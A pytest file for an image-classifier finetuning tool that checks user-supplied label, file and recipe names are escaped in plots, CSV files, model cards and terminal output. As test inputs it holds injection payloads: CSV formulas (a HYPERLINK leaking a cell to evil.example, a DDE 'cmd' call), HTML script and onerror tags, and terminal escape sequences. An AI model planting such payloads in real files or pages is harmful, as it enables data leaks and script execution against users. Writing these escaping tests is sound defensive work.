"""Issue 20, cases 10 and 19: label names (and file, folder and recipe text) that a user controls reach the
plots, the CSV files and the model card as plain text: no matplotlib math text, no spreadsheet formula, no
markdown or HTML markup."""

from __future__ import annotations

import ast
import csv
import json
import logging
import re
from pathlib import Path

import numpy as np
import pytest
import yaml
from conftest import make_image_folder
from PIL import Image

from hf_finetune.escaping import FORMULA_PREFIXES, csv_cell
from hf_finetune.hub.model_card import render_model_card
from hf_finetune.inference import reports
from hf_finetune.inference.predict import write_predictions

MATH_LABELS = [r"$\foo{$", "a $x^2$ b", "price in $", "cat"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _captured_figures(monkeypatch) -> list:
    """Every matplotlib Figure saved while the test runs (savefig still writes the file)."""
    from matplotlib.figure import Figure

    saved, original = [], Figure.savefig

    def savefig(self, *args, **kwargs):
        saved.append(self)
        return original(self, *args, **kwargs)

    monkeypatch.setattr(Figure, "savefig", savefig)
    return saved


def _png(path: Path) -> tuple[int, int]:
    with Image.open(path) as image:
        assert image.format == "PNG"
        return image.size


def test_math_text_label_in_plots(tmp_path, monkeypatch, caplog):
    """Case 10: ``$\\foo{$`` as a class name crashed eval's plots (ValueError from the math-text parser)
    and made training drop confusion_matrix.png with a warning; both now draw the label as written."""
    figures = _captured_figures(monkeypatch)
    n = len(MATH_LABELS)
    classes = {f"c{i}$\\foo{{": 2 for i in range(n)}  # file names, drawn under each tile, hold math text too
    root = make_image_folder(tmp_path / "imgs", classes, size=(24, 20), seed=1)
    images = sorted(str(p) for p in root.rglob("*.png"))
    labels = np.repeat(np.arange(n), 2)
    logits = np.zeros((2 * n, n))
    logits[np.arange(2 * n), (labels + np.arange(2 * n) % 2) % n] = 3.0  # every other image is a mistake

    written = reports.write_eval_reports(tmp_path / "eval", logits, labels, MATH_LABELS, images, top_k=4)
    assert [p.name for p in written] == [
        reports.CONFUSION_MATRIX_NAME,
        reports.MOST_CONFUSED_NAME,
        reports.TOP_LOSSES_NAME,
    ]
    assert min(_png(tmp_path / "eval" / reports.CONFUSION_MATRIX_NAME)) > 300
    assert min(_png(tmp_path / "eval" / reports.TOP_LOSSES_NAME)) > 300
    # the tick labels and the tile titles hold the names as written, not parsed as math
    matrix_ax = figures[0].axes[0]
    ticks = [t.get_text() for t in matrix_ax.get_xticklabels()]
    assert sorted(ticks) == sorted(MATH_LABELS)
    assert not any(t.get_parse_math() for t in matrix_ax.get_xticklabels() + matrix_ax.get_yticklabels())
    titles = [ax.get_title() for ax in figures[1].axes]
    assert any(r"true: $\foo{$" in title for title in titles), titles
    assert sum(r"$\foo{_00" in t.get_text() for ax in figures[1].axes for t in ax.texts) == 4

    # training: the figure is written, not dropped with a warning
    history = [
        {"epoch": 0.0, "eval_loss": 1.4, "eval_accuracy": 0.25},
        {"epoch": 1.0, "loss": 1.2, "step": 2},
        {"epoch": 1.0, "eval_loss": 1.0, "eval_accuracy": 0.5},
    ]
    report = {"confusion_matrix": [[1, 1, 0, 0], [0, 2, 0, 0], [0, 0, 1, 1], [1, 0, 0, 1]]}
    (tmp_path / "train").mkdir()
    with caplog.at_level(logging.WARNING, logger="hf_finetune.inference.reports"):
        names = reports.write_training_figures(tmp_path / "train", history, report, MATH_LABELS)
    assert names == [reports.TRAINING_CURVES_NAME, reports.CONFUSION_MATRIX_NAME]
    assert not [r for r in caplog.records if "not written" in r.getMessage()]
    assert min(_png(tmp_path / "train" / reports.CONFUSION_MATRIX_NAME)) > 300


def test_csv_formula_injection_neutralised(tmp_path):
    """Case 19 (CSV): a label such as ``=HYPERLINK(...)`` was written as-is into most_confused.csv and
    ``predict --output`` CSV, where a spreadsheet runs it. Every text cell starting with ``= + - @``, a tab
    or a carriage return now starts with a single quote; other cells and the JSON Lines are unchanged."""
    names = [*FORMULAS, "cat", "dog-like"]
    n = len(names)
    matrix = np.eye(n, dtype=np.int64) * 3
    matrix[np.arange(n), (np.arange(n) + 1) % n] = 1  # each class confused with the next one
    path = reports.write_most_confused(matrix, names, tmp_path / reports.MOST_CONFUSED_NAME)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == n
    for row in rows:
        for column in ("true", "predicted"):
            cell = row[column]
            raw = cell[1:] if cell.startswith("'") else cell
            assert raw in names
            assert cell.startswith("'") == raw.startswith(FORMULA_PREFIXES), cell
        assert row["count"] == "1"  # numbers are not touched
    assert {row["true"] for row in rows} >= {"'" + f for f in FORMULAS} | {"cat", "dog-like"}

    records = [
        {"path": "=cmd.png", "predictions": [{"label": f, "score": -0.5} for f in FORMULAS]},
        {"path": "/photos/cat.png", "predictions": [{"label": "cat", "score": 0.9}]},
    ]
    write_predictions(records, tmp_path / "preds.csv")
    with (tmp_path / "preds.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["label"] for row in rows] == ["'" + f for f in FORMULAS] + ["cat"]
    assert {row["path"] for row in rows} == {"'=cmd.png", "/photos/cat.png"}
    assert {row["score"] for row in rows} == {"-0.5", "0.9"}  # a negative score stays a number
    write_predictions(records, tmp_path / "preds.jsonl")  # JSON is no spreadsheet: labels stay as they are
    back = [json.loads(line) for line in (tmp_path / "preds.jsonl").read_text(encoding="utf-8").splitlines()]
    assert back == records
    assert all(csv_cell(prefix + "x").startswith("'") for prefix in FORMULA_PREFIXES)


EVIL = [
    "<script>alert(1)</script>",
    "[click](http://evil.example)",
    "a|b",
    "**bold** _it_ ~~gone~~",
    "back`tick",
    "two\nlines",
    "<img src=x onerror=alert(2)>",
]


def _evil_run(folder: Path) -> Path:
    """An output folder whose labels, source labels, data folder, base model folder and recipe values carry
    markdown and HTML."""
    folder.mkdir()
    labels = EVIL
    config = {
        "architectures": ["Net`</code><script>alert(3)</script>"],
        "id2label": {str(i): name for i, name in enumerate(labels)},
        "label2id": {name: i for i, name in enumerate(labels)},
    }
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "labels.json").write_text(json.dumps({"labels": labels, "reinitialized": False}))
    (folder / "label_mapping.json").write_text(
        json.dumps(
            {
                "num_source_labels": 2,
                "matches": [
                    {"target": name, "kind": "exact", "source_indices": [0], "source_names": ["<b>src</b>|x"]}
                    for name in labels
                ],
            }
        )
    )
    per_class = {name: {"precision": 1.0, "recall": 0.5, "f1": 0.6667, "support": 2} for name in labels}
    (folder / "eval_per_class.json").write_text(json.dumps({"per_class": per_class}))
    (folder / "eval_results.json").write_text(json.dumps({"eval_accuracy": 0.5, "eval_samples": 14}))
    recipe = {
        "model_name_or_path": str(folder.parent / "base`<img src=x onerror=alert(4)>"),
        "train_dir": str(folder.parent / "data` <img src=x onerror=alert(5)> `"),
        "output_dir": "y\n```\n<script>alert(6)</script>",  # dumped as a 2-space indented ``` line
    }
    (folder / "recipe.yaml").write_text(yaml.safe_dump(recipe))
    return folder


def _table_cells(line: str) -> int:
    """The cells of a GFM table row: split on ``|`` not preceded by a backslash."""
    return len(re.split(r"(?<!\\)\|", line.strip().strip("|")))


def test_model_card_escapes_label_markdown_html(tmp_path):
    """Case 19 (card): only ``|`` was escaped in the card; ``<script>`` labels went out as HTML,
    ``[x](y)`` as links, a backtick in a folder name or a line break in a recipe value closed the code
    around it. Now every table row keeps its cells and the rendered card has no injected element."""
    out = _evil_run(tmp_path / "run")
    text = render_model_card(out, "org/model")
    outside_code = re.sub(r"(`+).*?\1", "", text.split("```yaml")[0])  # code spans show text verbatim
    assert "<script" not in outside_code and "<img" not in outside_code and "<b>" not in outside_code
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert r"\[click\](http://evil.example)" in text
    per_class_rows = [line for line in text.splitlines() if line.startswith("| ") and "| 2 |" in line]
    assert len(per_class_rows) == len(EVIL)
    assert all(_table_cells(line) == 5 for line in per_class_rows), per_class_rows
    mapping_rows = [line for line in text.splitlines() if "| exact |" in line]
    assert len(mapping_rows) == len(EVIL)
    assert all(_table_cells(line) == 3 for line in mapping_rows), mapping_rows
    # the recipe's code block is fenced by more backticks than any run inside it
    assert "````yaml" in text
    # without a repo id the title is the folder's name and the snippets load the folder: a name with
    # markup and a double quote stays text, and the snippets stay valid Python
    named = tmp_path / 'run <b>bold "q"'
    _evil_run(tmp_path / "src").rename(named)
    local = render_model_card(named)
    assert '# run &lt;b&gt;bold "q"' in local
    snippets = re.findall(r"```python\n(.*?)```", local, flags=re.S)
    assert snippets and all(ast.parse(code) for code in snippets)
    assert f"model={json.dumps(str(named))})" in local

    markdown_it = pytest.importorskip("markdown_it")
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    body = text.split("\n---\n", 1)[1]  # the YAML metadata is not markdown
    rendered = md.render(body)
    for tag in ("<script", "<img", "<b>", '<a href="http://evil', "<strong>", "<em>", "<s>"):
        assert tag not in rendered, tag
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    # text in code (architecture, folder names, the recipe) stays inside its <code>: none closes it early
    outside_code = re.sub(r"<code[^>]*>.*?</code>", "", rendered, flags=re.S)
    for n in (3, 4, 5, 6):
        assert f"alert({n})" in rendered and f"alert({n})" not in outside_code, n


def test_terminal_output_escapes_control_characters(tiny_hf_checkpoint, tmp_path, capsys):
    """Found while fixing case 19: ``predict`` (without --output), ``eval``'s table and ``map-labels``'s table
    printed label names raw, and log lines and one-line errors printed file names raw, so a name holding
    ESC sequences or a carriage return could recolour, clear or overwrite the terminal's output. They are
    printed escaped (``\\x1b``)."""
    import shutil

    from hf_finetune import cli
    from hf_finetune.inference.evaluation import format_report

    evil = "cat\x1b[2J\x1b[31m\rfake"
    model = tmp_path / "model"
    shutil.copytree(tiny_hf_checkpoint, model)
    config = json.loads((model / "config.json").read_text())
    config["id2label"] = {str(i): evil if i == 0 else f"label {i}" for i in range(len(config["id2label"]))}
    config["label2id"] = {name: int(i) for i, name in config["id2label"].items()}
    (model / "config.json").write_text(json.dumps(config))
    root = make_image_folder(tmp_path / "data", {evil: 2, "dog": 2}, seed=3)
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "bad\x1b[2J.png").write_text("not a PNG")  # named in a warning, then in a --strict error
    capsys.readouterr()
    assert cli.main(["predict", str(model), str(root), str(loose), "--top-k", "7"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out
    assert "skipping image " + str(loose / "bad\\x1b[2J.png") + ": not an image" in out  # the log line
    assert cli.main(["predict", str(model), str(loose), "--strict"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "\x1b" not in err[0] and "bad\\x1b[2J.png" in err[0], err
    assert out.count("cat\\x1b[2J\\x1b[31m\\rfake") == 8  # 4 predictions, 2 paths x (folder, file)
    report = {
        "split": "validation",
        "num_images": 2,
        "accuracy": 1.0,
        "per_class": {evil: {"precision": 1.0, "recall": 1.0, "f1": 1.0, "support": 2}},
    }
    table = format_report(report)
    assert "\x1b" not in table and "\r" not in table and "cat\\x1b[2J" in table
    assert cli.main(["map-labels", "--model_name_or_path", str(model), "--train_dir", str(root)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out and "cat\\x1b[2J" in out
